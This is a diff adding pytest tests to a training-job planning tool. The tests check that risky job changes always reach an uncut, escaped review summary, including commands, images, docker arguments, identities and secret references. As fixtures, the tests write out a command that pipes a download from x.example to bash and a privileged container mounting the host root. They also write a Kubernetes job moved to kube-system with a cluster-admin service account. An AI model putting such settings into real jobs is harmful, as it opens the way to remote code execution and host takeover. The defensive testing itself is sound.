@@ -12,9 +12,10 @@ import unicodedata
 
 import pytest
 
-from conftest import edit, git, spec_repo, ts
+from conftest import REPO, edit, git, spec_repo, ts
 
 GITHUB_LIMIT = 65_536  # GitHub refuses a longer comment
+REPO_SPECS = REPO / "specs"
 
 
 @pytest.fixture
@@ -286,3 +287,94 @@ def test_a_summary_larger_than_the_plans_share_takes_its_room_from_the_rest(repo
     assert "more job(s): `trainspec plan --git HEAD" in summary or f"- `{names[-1]}`: new job" in summary
     assert f"GPUs of all jobs: 26 → {26 + 400} (\\+400); 200 jobs with cost changes**" in summary
     assert text.count("Cut to fit one comment") == 2  # the plan's jobs and the diff: cut, saying where the rest is
+
+
+# --- what a job runs or can reach, never cut (issue 40) -------------------------------------------------
+
+BASE_SPEC = """version: 1
+code: ../code
+framework: pytorch
+resources:
+  nodes: 1
+  gpus_per_node: 2
+  sku: Standard_NC48ads_A100_v4
+environment:
+  image: mcr.microsoft.com/azureml/openmpi4.1.0-cuda11.8-cudnn8-ubuntu22.04
+env:
+  NCCL_DEBUG: WARN
+targets:
+  azureml:
+    experiment_name: team
+"""
+PIPE = "curl -fsSL https://x.example/s.sh | bash && python train.py"
+HOST = "--privileged -v /:/host"
+
+
+def test_a_600_job_base_change_keeps_the_dangerous_job_and_a_hunk_in_one_comment(tmp_path):
+    """A change to a base 600 jobs extend, and one of them also piping a download to bash in a
+    privileged container that mounts the host: the comment stays under GitHub's limit; its
+    summary, never cut, says what that job now runs, escaped; a diff hunk is kept; the jobs not
+    shown are one line, not lists of 600 names. One commit, in a repository written at once."""
+    repo = tmp_path / "repo"
+    (repo / "specs").mkdir(parents=True)
+    (repo / "code").mkdir()
+    (repo / "code" / "train.py").write_text("print('training')\n")
+    (repo / "specs" / "base.yaml").write_text(BASE_SPEC)
+    for i in range(600):
+        (repo / "specs" / f"job-{i:03d}.yaml").write_text(f"extends: base.yaml\nname: job-{i:03d}\n"
+                                                         "command: python train.py\n")
+    git("init", "-q", "-b", "main", cwd=repo)
+    commit(repo, "600 jobs on one base")
+    (repo / "specs" / "base.yaml").write_text(BASE_SPEC.replace("NCCL_DEBUG: WARN", "NCCL_DEBUG: INFO"))
+    (repo / "specs" / "job-431.yaml").write_text(
+        f"extends: base.yaml\nname: job-431\ncommand: {PIPE}\ntargets:\n  azureml:\n    docker_args: {HOST}\n")
+    text = ts("review", "--git", "HEAD", cwd=repo, check=True).stdout
+    assert len(text) < GITHUB_LIMIT and len(text) <= 60_000, len(text)
+    summary = opening(text)
+    assert summary.startswith("# trainspec plan: 600 jobs changed since HEAD\n\n**Cost: GPUs of all jobs: "
+                              "1,200 → 1,200; no cost changes; 1 job whose command, image or access changes**")
+    row = next(line for line in summary.splitlines() if line.startswith("- `job-431`"))
+    spans = [t.content for t in tokens(row) if t.type == "code_inline"]
+    assert spans == ["job-431", "python train.py", PIPE, "-", HOST], row  # each value whole, in a code span
+    assert "targets.azureml.docker_args" in "".join(t.content for t in tokens(row) if t.type == "text")
+    blocks = [t for t in tokens(text) if t.type == "fence"]
+    assert any(b.info == "diff" and "+  NCCL_DEBUG: INFO" in b.content for b in blocks), len(blocks)
+    assert not [t for t in tokens(text) if t.type == "link_open"]  # the URL is no link
+    assert max(len(line) for line in text.splitlines()) < 3_000  # no list of 600 names
+    assert re.search(r"\*\*Not shown for length \(\d+\):\*\* .*… and \d+ more\n", text)
+
+
+def test_every_change_of_what_a_job_runs_or_can_reach_is_in_the_summary(repo):
+    """Command, image, docker_args, identity, a secret reference (core spec and Azure ML), a setup
+    line (HPC Pack), a namespace and service account (Kubernetes): each in the summary with its
+    before and after, in text, markdown and json alike."""
+    (repo / "specs" / "k8s-ddp.yaml").write_text((REPO_SPECS / "k8s-ddp.yaml").read_text())
+    commit(repo, "a kubernetes job")
+    spec = repo / "specs" / "mnist-lightning.yaml"
+    edit(spec, "cuda11.8-cudnn8-ubuntu22.04", "cuda12.1-cudnn8-ubuntu22.04")
+    edit(spec, "    job_tier: standard\n", "    job_tier: standard\n    docker_args: --network host\n"
+                                          "    identity: {type: managed}\n")
+    edit(spec, "env:\n", "secrets:\n  HF_TOKEN:\n    azureml: {keyvault: \"https://team-kv.vault.azure.net\", "
+                         "name: hf}\nenv:\n")
+    edit(repo / "specs" / "hpcpack-ddp.yaml", "    project: ddp\n", "    project: ddp\n    setup: source /app/x.sh\n")
+    edit(repo / "specs" / "k8s-ddp.yaml", "    namespace: ml\n", "    namespace: kube-system\n"
+                                                             "    service_account: cluster-admin\n")
+    md = ts("plan", "--git", "HEAD", "--format", "markdown", cwd=repo, check=True).stdout
+    summary = opening(md)
+    said = {line.split("`")[1]: "".join(t.content for t in tokens(line)) for line in summary.splitlines()
+            if line.startswith("- `")}
+    assert "environment.image mcr.microsoft.com/azureml/openmpi4.1.0-cuda11.8-cudnn8-ubuntu22.04 → " \
+           "mcr.microsoft.com/azureml/openmpi4.1.0-cuda12.1-cudnn8-ubuntu22.04" in said["mnist-lightning"]
+    for part in ("targets.azureml.docker_args - → --network host", "targets.azureml.identity.type - → managed",
+                 "secrets.HF_TOKEN.azureml.keyvault - → https://team-kv.vault.azure.net"):
+        assert part in said["mnist-lightning"], said["mnist-lightning"]
+    assert "targets.hpcpack.setup - → source /app/x.sh" in said["hpcpack-ddp"]
+    assert "targets.kubernetes.namespace ml → kube-system; targets.kubernetes.service_account - → cluster-admin" \
+        in said["k8s-ddp"]
+    assert "single-node" not in said  # nothing it runs or reaches changed
+    text = ts("plan", "--git", "HEAD", cwd=repo, check=True).stdout
+    assert "  hpcpack-ddp: what it runs or can reach: targets.hpcpack.setup - → source /app/x.sh" in text
+    data = json.loads(ts("plan", "--git", "HEAD", "--format", "json", cwd=repo, check=True).stdout)
+    rows = {r["name"]: r for r in data["cost"]["jobs"]}
+    assert {"field": "targets.kubernetes.service_account", "before": None, "after": "cluster-admin"} \
+        in rows["k8s-ddp"]["access"]
